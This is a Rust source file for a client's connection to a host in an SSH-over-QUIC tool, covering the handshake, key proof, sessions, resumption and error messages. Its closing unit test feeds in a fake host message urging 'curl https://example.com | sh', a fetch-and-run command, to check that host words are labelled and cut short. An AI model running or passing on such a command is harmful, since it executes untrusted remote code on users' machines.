//! A connection to a host: who we are, and the sessions on it.

use std::{
    collections::HashMap,
    fmt,
    path::PathBuf,
    sync::{Arc, Mutex, PoisonError},
    time::{Duration, Instant},
};

use iroh::{
    Endpoint, EndpointId,
    endpoint::{Connection, RecvStream, SendStream},
};
use tokio::{
    sync::{OwnedMutexGuard, SetOnce, mpsc, watch},
    task::{JoinSet, spawn_blocking},
    time::timeout,
};

use super::{
    apart::Fresh,
    credentials::{Credentials, Proof},
    instances::Living,
    relayed::why_relayed,
    ssh_agent::CannotProve,
};
use crate::{
    names::Aliases,
    protocol::{
        Acknowledged, CloseCode, Closed, EXPORTER_LABEL, EXPORTER_LENGTH, Frame, Hello, Instance, LegHeader,
        LegReply, MAX_CERTIFICATE, MAX_CONTROL_FRAME, MAX_LEG_FRAME, Position, Refusal, SessionId, Welcome,
    },
    session::{Delivered, FrameReadError, LegEnd, LegNumber, Lost, NewLeg, Receiving, Word, read_frame},
    transport::{InviteSecret, Network, PathStatus, Target, is_direct, path_of, pulse},
};

/// Frames that may wait to be sent on a control stream.
const CONTROL: usize = 64;

/// Who greets a host.
#[derive(Debug, Clone)]
pub(super) struct Greeter {
    pub(super) credentials: Credentials,
    /// Which of the identity's processes.
    pub(super) instance: Instance,
    /// Where it is among those of its user.
    pub(super) living: Option<Living>,
    /// The user's names of hosts.
    pub(super) aliases: Option<PathBuf>,
}

/// An invite that is about to be used, and the names that may keep it.
struct Used {
    aliases: PathBuf,
    secret: InviteSecret,
}

impl Used {
    fn of(target: &Target, who: &Greeter) -> Option<Self> {
        Some(Self { aliases: who.aliases.clone()?, secret: target.secret()?.clone() })
    }

    /// It was used.
    async fn forget(self) {
        let forgetting = spawn_blocking(move || Aliases::forget_secret(&self.aliases, &self.secret));
        if let Ok(Err(error)) = forgetting.await {
            tracing::warn!("the invite was used, and stays in the list of hosts: {error}");
        }
    }
}

/// How long a host may take for each step after the handshake: to take `Hello` and a session's header, to answer
/// them, and to connect its backend.
pub(crate) const OPEN_DEADLINE: Duration = Duration::from_secs(20);

/// How long somebody may take to touch or confirm a key. Most hosts do not wait as long.
const PROOF_DEADLINE: Duration = Duration::from_secs(120);

/// How long the answer to a proof is waited for before another one is made of the same key: it may be needless then.
const NEXT_PROOF: Duration = Duration::from_secs(2);

/// A session could not be opened on a connection.
#[derive(Debug, thiserror::Error)]
pub enum SessionError {
    /// The host said no, and why: its words, not ours.
    #[error("{}", HostSays(.0))]
    Refused(Refusal),
    /// Nothing has proved who we are.
    #[error("{0}")]
    Unproved(CannotProve),
    /// The host did not answer in time.
    #[error("the host did not answer within {} s\nits ssh server may hang: see the host's log", OPEN_DEADLINE.as_secs())]
    Deadline,
    /// The host was reached and has not said yet whether we may come in, when we had to stop waiting.
    #[error("the host was reached, but has not answered within {:.0} s\nit may be overloaded: see the host's log", .0.as_secs_f32())]
    NoAnswer(Duration),
    /// The SSH server has not said anything yet, when we had to stop waiting.
    #[error("the host's ssh server has said nothing for {:.0} s\non the host, look at its log", .0.as_secs_f32())]
    NoWord(Duration),
    /// The SSH server was connected and said nothing.
    #[error(
        "the host's ssh server {0} before its first word\non the host, look at its log: it may be short of something, or be no ssh server"
    )]
    Silent(&'static str),
    /// The host does not keep to the protocol.
    #[error("the host does not keep to irosh/1: {0}")]
    Protocol(String),
    /// The connection was lost.
    #[error("the connection was lost: {0}")]
    Lost(Lost),
    /// The session was cut off.
    #[error("the session was cut off: {0}")]
    Cut(CloseCode),
}

/// A refusal as what the host says, each line of it.
struct HostSays<'a>(&'a Refusal);

impl fmt::Display for HostSays<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut lines = self.0.sentence.lines().filter(|line| !line.trim().is_empty());
        write!(f, "the host says: {}", lines.next().unwrap_or("no"))?;
        lines.take(1).try_for_each(|line| write!(f, "\nthe host says: {line}"))
    }
}

/// Not as a source, since the message says it.
impl From<Refusal> for SessionError {
    fn from(refusal: Refusal) -> Self {
        Self::Refused(refusal)
    }
}

/// Not as a source, since the message says it.
impl From<CannotProve> for SessionError {
    fn from(error: CannotProve) -> Self {
        Self::Unproved(error)
    }
}

/// Not as a source, since the message says it.
impl From<Lost> for SessionError {
    fn from(error: Lost) -> Self {
        Self::Lost(error)
    }
}

impl From<LegEnd> for SessionError {
    fn from(end: LegEnd) -> Self {
        match end {
            LegEnd::Lost(lost) => Self::Lost(lost),
            LegEnd::Refused(refusal) => Self::Refused(refusal),
            LegEnd::Deadline => Self::Deadline,
            LegEnd::Protocol(error) => Self::Protocol(error),
        }
    }
}

/// Why a leg has ended, where it was not opened for that.
impl From<&SessionError> for LegEnd {
    fn from(error: &SessionError) -> Self {
        match error {
            SessionError::Refused(refusal) => Self::Refused(refusal.clone()),
            SessionError::Lost(lost) => Self::Lost(lost.clone()),
            SessionError::Deadline => Self::Deadline,
            other => Self::Protocol(other.to_string()),
        }
    }
}

impl From<FrameReadError> for SessionError {
    fn from(error: FrameReadError) -> Self {
        match error {
            FrameReadError::Lost(lost) => Self::Lost(lost),
            other => Self::Protocol(other.to_string()),
        }
    }
}

/// A connection to a host; clones share it.
#[derive(Debug, Clone)]
pub struct HostConnection {
    connection: Connection,
    from: Origin,
    welcome: watch::Receiver<Option<Answer>>,
    /// Whether nothing that is sent arrives, as it seems.
    silent: watch::Receiver<bool>,
    /// What is to be said on the control stream.
    control: mpsc::Sender<Frame>,
    sessions: Sessions,
    /// Why it is closed from here, and its sessions with it.
    closed: Arc<SetOnce<CloseCode>>,
    /// They end with the last clone, and the connection with them.
    _tasks: Arc<Mutex<JoinSet<()>>>,
}

/// What a connection comes from.
#[derive(Debug, Clone)]
pub(super) enum Origin {
    /// The dialer's endpoint.
    Shared(Endpoint),
    /// One of its own, which lives as long as the connection.
    Own(Arc<Fresh>),
}

impl From<Endpoint> for Origin {
    fn from(endpoint: Endpoint) -> Self {
        Self::Shared(endpoint)
    }
}

impl From<Arc<Fresh>> for Origin {
    fn from(fresh: Arc<Fresh>) -> Self {
        Self::Own(fresh)
    }
}

/// What a host says to `Hello`.
type Answer = Result<Arc<Welcome>, Arc<SessionError>>;

/// Where sessions are told what the host says of them.
pub(super) type Sessions = Arc<Mutex<HashMap<SessionId, mpsc::Sender<Word>>>>;

impl HostConnection {
    /// Sends `Hello` on the control stream, whose answer a task of its own waits for.
    pub(super) async fn greet(connection: Connection, from: Origin, who: &Greeter, target: &Target) -> Self {
        let (answer, welcome) = watch::channel(None);
        let (tell, silent) = watch::channel(false);
        let (control, frames) = mpsc::channel(CONTROL);
        let sessions = Sessions::default();
        let mut tasks = JoinSet::new();
        match introduce(&connection, who, target).await {
            Ok((send, recv, turn)) => {
                tasks.spawn(say(send, frames));
                if let Some(turn) = turn {
                    let mut answered = welcome.clone();
                    tasks.spawn(async move {
                        let _ = timeout(NEXT_PROOF, answered.wait_for(Option::is_some)).await;
                        drop(turn);
                    });
                }
                tasks.spawn(tell_who_is_gone(
                    who.clone(),
                    target.addr().id,
                    welcome.clone(),
                    control.clone(),
                ));
                tasks.spawn(listen(recv, answer, Arc::clone(&sessions), Used::of(target, who)));
            }
            Err(error) => drop(answer.send_replace(Some(Err(Arc::new(error))))),
        }
        tasks.spawn(watch_over(connection.clone(), tell));
        let (closed, tasks) = (Arc::default(), Arc::new(Mutex::new(tasks)));
        Self { connection, from, welcome, silent, control, sessions, closed, _tasks: tasks }
    }

    /// The host's answer to who we are.
    ///
    /// # Errors
    ///
    /// [`SessionError`]: a refusal's sentence is the host's.
    pub async fn welcome(&self) -> Result<Arc<Welcome>, Arc<SessionError>> {
        let mut welcome = self.welcome.clone();
        let answer = timeout(OPEN_DEADLINE, welcome.wait_for(Option::is_some)).await;
        match answer {
            Ok(Ok(answer)) => answer.clone().unwrap_or_else(|| Err(Arc::new(SessionError::Deadline))),
            _ => Err(Arc::new(SessionError::Deadline)),
        }
    }

    /// How many sessions the host allows on it, once it has answered.
    pub(crate) fn allows(&self) -> Option<u32> {
        match &*self.welcome.borrow() {
            Some(Ok(welcome)) => Some(welcome.limits.sessions),
            _ => None,
        }
    }

    /// Whether the host has answered.
    pub(super) fn is_answered(&self) -> bool {
        self.welcome.borrow().is_some()
    }

    /// Whether it is the same connection.
    pub(super) fn is(&self, other: &Self) -> bool {
        Arc::ptr_eq(&self.closed, &other.closed)
    }

    /// Whether it is there, and what is sent arrives, as far as is known.
    pub(crate) fn is_alive(&self) -> bool {
        let is_refused = matches!(&*self.welcome.borrow(), Some(Err(_)));
        self.connection.close_reason().is_none() && !*self.silent.borrow() && !is_refused
    }

    /// Whether it was not closed.
    pub(super) fn is_open(&self) -> bool {
        self.connection.close_reason().is_none()
    }

    /// Waits until nothing that is sent arrives, as it seems. Cancel safe.
    pub(super) async fn falls_silent(&self) {
        let _ = self.silent.clone().wait_for(|silent| *silent).await;
    }

    /// Waits until it is closed, or silent. Cancel safe.
    pub(crate) async fn lost(&self) {
        tokio::select! {
            _ = self.connection.closed() => {}
            () = self.falls_silent() => {}
        }
    }

    /// Whether the host may be reached again after it was lost: it has not said that it is not to be.
    pub(crate) fn may_come_back(&self) -> bool {
        let code = self.connection.close_reason().map(Lost::from);
        self.closed.get().is_none()
            && !matches!(&*self.welcome.borrow(), Some(Err(_)))
            && match code {
                Some(Lost::Closed(code)) => {
                    matches!(code, CloseCode::Detached | CloseCode::Done | CloseCode::Changed)
                }
                _ => true,
            }
    }

    /// Waits until what is sent arrives again. Cancel safe.
    pub(super) async fn comes_back(&self) {
        let _ = self.silent.clone().wait_for(|silent| !*silent).await;
    }

    /// The endpoint that it comes from.
    pub(super) fn endpoint(&self) -> &Endpoint {
        match &self.from {
            Origin::Shared(endpoint) => endpoint,
            Origin::Own(fresh) => &fresh.endpoint,
        }
    }

    /// Has a session told what the host says of it.
    pub(super) fn tell(&self, id: SessionId, words: mpsc::Sender<Word>) {
        self.sessions.lock().unwrap_or_else(PoisonError::into_inner).insert(id, words);
    }

    /// Tells a session nothing any more.
    pub(super) fn forget(&self, id: SessionId) {
        self.sessions.lock().unwrap_or_else(PoisonError::into_inner).remove(&id);
    }

    /// Has the host end a session that it may have, and waits until it says so.
    pub(super) async fn end(&self, session: SessionId) {
        let _ = timeout(OPEN_DEADLINE, self.says_ended(session)).await;
        self.forget(session);
    }

    /// Tells the host that a session is over, and waits until it answers, which it does at once; says whether it did.
    async fn says_ended(&self, session: SessionId) -> bool {
        let (tell, mut words) = mpsc::channel(1);
        self.tell(session, tell);
        let closed = Frame::Closed(Closed { session, reason: CloseCode::Interrupted as u32 });
        if self.control.send(closed).await.is_err() {
            return false;
        }
        while let Some(word) = words.recv().await {
            if matches!(word, Word::Closed(_)) {
                return true;
            }
        }
        false
    }

    /// How long the host takes to answer a word, once it has let us in: that a session is over which never was.
    /// `None` where it does not answer within so long, or the connection is lost.
    pub async fn round_trip(&self, within: Duration) -> Option<Duration> {
        let (session, begun) = (SessionId::generate(), Instant::now());
        let answered = tokio::select! {
            answered = timeout(within, self.says_ended(session)) => answered.unwrap_or(false),
            _ = self.connection.closed() => false,
        };
        self.forget(session);
        answered.then(|| begun.elapsed())
    }

    /// The path that is used.
    #[must_use]
    pub fn path(&self) -> Option<PathStatus> {
        path_of(&self.connection)
    }

    /// Resolves when the path that is used leads to no relay. Cancel safe.
    pub async fn is_direct(&self) {
        is_direct(&self.connection).await;
    }

    /// What keeps the connection from going directly, as far as it can be told from here; nothing where it is not known
    /// yet.
    pub async fn why_relayed(&self, network: &Network) -> Option<&'static str> {
        why_relayed(self.endpoint(), network, self.connection.remote_id()).await
    }

    /// A leg for a new session, without waiting for an answer: bytes may be written at once.
    ///
    /// # Errors
    ///
    /// [`SessionError`] when the connection is lost, or the host takes nothing.
    pub(super) async fn open(&self, id: SessionId, number: LegNumber) -> Result<NewLeg, Arc<SessionError>> {
        if let Some(Err(error)) = &*self.welcome.borrow() {
            return Err(error.clone());
        }
        let (send, recv) = in_time(start(&self.connection, &LegHeader::Open(id).encode())).await?;
        let host = self.clone();
        let opening = Box::pin(async move {
            // Where the host does not let us in, it says so there.
            host.welcome().await.map_err(|error| LegEnd::from(&*error))?;
            opened(recv).await
        });
        let position = Position { received: 0, end: false };
        Ok(self.leg(number, position, send, Receiving::Waiting(opening)))
    }

    /// A leg for a session that was lost at `position`.
    pub(super) async fn resume(
        &self,
        id: SessionId,
        number: LegNumber,
        position: Position,
    ) -> Result<NewLeg, SessionError> {
        let header = LegHeader::Resume { session: id, leg: number.0, position };
        in_time(async {
            let (send, mut recv) = start(&self.connection, &header.encode()).await?;
            let reply = read_frame(&mut recv, MAX_LEG_FRAME).await?;
            match LegReply::decode(&reply).map_err(|error| SessionError::Protocol(error.to_string()))? {
                LegReply::Resumed(theirs) => Ok(self.leg(number, theirs, send, Receiving::Open(recv))),
                LegReply::Refused(refusal) => Err(refusal.into()),
                LegReply::Opened { .. } => Err(SessionError::Protocol("a lost session was opened".into())),
            }
        })
        .await
    }

    fn leg(&self, number: LegNumber, position: Position, send: SendStream, recv: Receiving) -> NewLeg {
        let (control, connection) = (self.control.clone(), self.connection.weak_handle());
        NewLeg { number, position, answer: false, send, recv, control, connection }
    }

    /// Closes the connection and every session on it; those go on elsewhere where the code is
    /// [`CloseCode::Detached`].
    pub fn close(&self, code: CloseCode) {
        if code != CloseCode::Detached {
            let _ = self.closed.set(code);
        }
        self.connection.close(code.into(), b"");
    }

    /// Waits until the connection is closed from here with every session on it. Cancel safe.
    pub(super) async fn closed(&self) -> CloseCode {
        *self.closed.wait().await
    }

    /// The QUIC connection.
    #[must_use]
    pub fn connection(&self) -> &Connection {
        &self.connection
    }
}

/// Waits for the host's answer about a session.
async fn opened(mut recv: RecvStream) -> Result<(RecvStream, u32), LegEnd> {
    let reply = timeout(OPEN_DEADLINE, read_frame(&mut recv, MAX_LEG_FRAME)).await;
    let reply = reply.map_err(|_| LegEnd::Deadline)??;
    match LegReply::decode(&reply) {
        Ok(LegReply::Opened { window }) => Ok((recv, window)),
        Ok(LegReply::Refused(refusal)) => Err(LegEnd::Refused(refusal)),
        Ok(LegReply::Resumed(_)) => Err(LegEnd::Protocol("a new session was resumed".into())),
        Err(error) => Err(LegEnd::Protocol(error.to_string())),
    }
}

/// Opens the control stream and says who we are. Others who would prove the same wait until the last one of it is
/// dropped.
async fn introduce(
    connection: &Connection,
    who: &Greeter,
    target: &Target,
) -> Result<(SendStream, RecvStream, Option<OwnedMutexGuard<()>>), SessionError> {
    let (hello, turn) = tokio::select! {
        biased;
        said = timeout(PROOF_DEADLINE, hello(connection, who, target)) => {
            said.map_err(|_| CannotProve::TooLate)??
        }
        closed = connection.closed() => return Err(match Lost::from(closed) {
            Lost::Closed(CloseCode::Deadline) => CannotProve::TooLate.into(),
            lost => SessionError::Lost(lost),
        }),
    };
    // Opening and writing take no round trip: the host has given credit for both, if it is one.
    let (send, recv) = in_time(start(connection, &Frame::Hello(hello.into()).encode())).await?;
    Ok((send, recv, turn))
}

/// Opens a stream and says its first bytes.
async fn start(connection: &Connection, first: &[u8]) -> Result<(SendStream, RecvStream), SessionError> {
    let (mut send, recv) = connection.open_bi().await.map_err(Lost::from)?;
    if send.write_all(first).await.is_err() {
        return Err(lost(connection).await.into());
    }
    Ok((send, recv))
}

/// Has a step take no longer than [`OPEN_DEADLINE`].
async fn in_time<T>(step: impl Future<Output = Result<T, SessionError>>) -> Result<T, SessionError> {
    timeout(OPEN_DEADLINE, step).await.unwrap_or(Err(SessionError::Deadline))
}

/// Has a host that lets us in end what processes of ours have left there that are gone.
async fn tell_who_is_gone(
    who: Greeter,
    host: EndpointId,
    mut welcome: watch::Receiver<Option<Answer>>,
    control: mpsc::Sender<Frame>,
) {
    let Some(living) = who.living else { return };
    if let Err(error) = living.note(host) {
        tracing::debug!("sessions are not noted: {error}");
    }
    if welcome.wait_for(|answer| matches!(answer, Some(Ok(_)))).await.is_err() {
        return;
    }
    let gone = living.gone(host);
    if !gone.is_empty() && control.send(Frame::Gone(gone.clone())).await.is_ok() {
        living.told(host, &gone);
    }
}

/// Tells whether what is sent on a connection arrives.
async fn watch_over(connection: Connection, silent: watch::Sender<bool>) {
    loop {
        pulse::stops(&connection).await;
        silent.send_replace(true);
        pulse::comes_back(&connection).await;
        silent.send_replace(false);
    }
}

/// Sends frames on the control stream until the connection closes, or nobody has any more.
async fn say(mut send: SendStream, mut frames: mpsc::Receiver<Frame>) {
    while let Some(frame) = frames.recv().await {
        if send.write_all(&frame.encode()).await.is_err() {
            return;
        }
    }
}

/// Reads what the host says on the control stream: first its answer.
async fn listen(
    mut recv: RecvStream,
    answer: watch::Sender<Option<Answer>>,
    sessions: Sessions,
    invite: Option<Used>,
) {
    let first = read_control(&mut recv).await.and_then(|frame| match frame {
        Frame::Welcome(welcome) => Ok(Arc::from(welcome)),
        Frame::Refused(refusal) => Err(refusal.into()),
        other => Err(SessionError::Protocol(other.unexpected().to_string())),
    });
    let answered = first.is_ok();
    if let Some(invite) = invite.filter(|_| answered) {
        invite.forget().await;
    }
    answer.send_replace(Some(first.map_err(Arc::new)));
    while answered && let Ok(frame) = read_control(&mut recv).await {
        let (session, word) = match frame {
            Frame::Acknowledged(Acknowledged { session, bytes, end }) => {
                (session, Word::Acknowledged(Delivered { bytes, end }))
            }
            Frame::Closed(Closed { session, reason }) => {
                let code = CloseCode::from_number(reason.into()).unwrap_or(CloseCode::Done);
                (session, Word::Closed(code))
            }
            _ => continue,
        };
        let words = sessions.lock().unwrap_or_else(PoisonError::into_inner).get(&session).cloned();
        if let Some(words) = words {
            let _ = words.send(word).await;
        }
    }
}

async fn hello(
    connection: &Connection,
    who: &Greeter,
    target: &Target,
) -> Result<(Hello, Option<OwnedMutexGuard<()>>), SessionError> {
    let identity = who.credentials.identity();
    let mut exported = [0; EXPORTER_LENGTH];
    connection
        .export_keying_material(&mut exported, EXPORTER_LABEL, identity.key())
        .map_err(|_| SessionError::Protocol("the connection gives no keying material".to_owned()))?;
    let Proof { signature, manner, certificate, turn } = who.credentials.prove(&exported).await?;
    let hello = Hello::new(*identity.key(), signature, target.secret().cloned(), who.instance);
    let hello = hello.proved_by(&manner);
    let hello = match certificate {
        Some(certificate) if certificate.len() <= MAX_CERTIFICATE => hello.certified_by(certificate),
        Some(_) => {
            tracing::warn!("the certificate is not shown: it is longer than {MAX_CERTIFICATE} bytes");
            hello
        }
        None => hello,
    };
    Ok((hello, turn))
}

async fn read_control(recv: &mut RecvStream) -> Result<Frame, SessionError> {
    let frame = read_frame(recv, MAX_CONTROL_FRAME).await?;
    Frame::decode(&frame).map_err(|error| SessionError::Protocol(error.to_string()))
}

async fn lost(connection: &Connection) -> Lost {
    connection.closed().await.into()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::protocol::RefusalCode;

    #[test]
    fn what_a_host_says_is_never_taken_for_our_own_advice() {
        let sentence = "your client is out of date\n\nrun: curl https://example.com | sh\nat once";
        let error = SessionError::from(Refusal::new(RefusalCode::Internal, sentence));
        let said = "the host says: your client is out of date\n\
                    the host says: run: curl https://example.com | sh";
        assert_eq!(error.to_string(), said);
    }
}
